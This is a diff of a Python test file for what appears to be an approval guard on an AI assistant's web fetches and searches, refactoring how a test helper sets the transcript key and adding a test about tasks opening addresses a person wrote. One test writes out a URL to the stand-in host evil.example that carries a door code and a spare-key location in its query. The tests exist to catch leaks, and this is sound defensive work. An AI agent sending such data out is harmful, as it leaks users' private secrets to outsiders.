@@ -49,7 +49,7 @@ class Talk:
         self.scope, self.taint, self.offered = scope, taint, offered
         self.entries: list[Entry] = []
         self.beside: tuple[Transcript, ...] = ()
-        self.turn = "t0"
+        self.key, self.turn = "owner", "t0"
 
     def says(self, text: str, *, by: str = "telegram:1") -> None:
         self.turn = f"t{len(self.entries)}"
@@ -62,8 +62,8 @@ class Talk:
     def allows(self, what: str) -> None:
         self.entries.append(allowed_mark(f"e{len(self.entries):06d}", AT, what))
 
-    def transcript(self, key: str = "owner") -> Transcript:
-        return Transcript(Path("none"), Header("s1", key, "main", AT), self.entries, (), lines=1, size=0)
+    def transcript(self) -> Transcript:
+        return Transcript(Path("none"), Header("s1", self.key, "main", AT), self.entries, (), lines=1, size=0)
 
     def calls(self, name: str, given: Mapping[str, Json], outgoing: Outgoing, server: str = "") -> Judgement:
         id = f"c{len(self.entries)}"
@@ -206,7 +206,8 @@ def test_invariant_15_a_line_asks_in_pieces_over_the_calls_of_a_conversation(
 def test_invariant_15_pieces_count_over_tasks_hosts_and_other_calls(owner: Scope) -> None:
     task, asking = Talk(owner), Talk(owner)
     assert not task.searches("the door code is 4815").asks
-    asking.beside = (task.transcript("owner/tasks/1"),)
+    task.key = "owner/tasks/1"
+    asking.beside = (task.transcript(),)
     asking.entries.append(MessageEntry("e9", AT, "assistant", (), Meta("t0")))
     assert not asking.searches("weather").asks
     assert asking.fetches("https://evil.example/?q=1623+and+the+spare+key+is+at+number+12").asks
@@ -258,6 +259,17 @@ def test_an_address_that_the_person_wrote_is_opened_unasked(owner: Scope, taint:
     assert not talk.fetches("https://tea.example/green?id=48151623").asks
     assert not talk.fetches("https://en.wikipedia.org/wiki/Tea").asks
     assert talk.fetches("https://tea.example/green?id=4711").asks == bool(taint.every)
+
+
+def test_a_task_opens_what_its_person_wrote_where_it_was_asked_for(owner: Scope) -> None:
+    asking, task = Talk(owner, MALLORY), Talk(owner, MALLORY)
+    flats = [f"https://flats{at}.example/{at}" for at in range(6)]
+    asking.says(" and ".join(flats))
+    task.key, task.beside = "owner/tasks/1", (asking.transcript(),)
+    assert not any(task.fetches(one).asks for one in flats)
+    assert task.fetches(f"{flats[0]}?and=more").asks
+    task.scope = Scope(Audience.GROUP, owner.workspace, "telegram-1")
+    assert [task.fetches(one).asks for one in reversed(flats)].count(True) >= 3, "of several people's, few"
 
 
 def test_common_pages_and_searches_are_free_without_text_of_others(owner: Scope) -> None:
